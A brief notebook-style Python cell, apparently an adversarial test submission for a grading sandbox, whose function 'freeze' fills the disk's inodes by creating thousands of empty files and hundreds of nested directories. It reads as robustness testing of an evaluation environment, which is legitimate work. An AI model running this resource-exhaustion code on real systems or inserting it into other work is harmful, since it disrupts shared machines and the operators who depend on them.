# %% [markdown]
# Uses up inodes: empty files, folders in folders, links.
# %% question="freeze"
import os


def freeze(module):
    for i in range(3000):
        try:
            open(f"tl_attack_mark_{i}", "w").close()
        except OSError:
            break
    path = "d"
    for _ in range(300):
        try:
            os.mkdir(path)
            os.chdir(path)
        except OSError:
            break
    return module
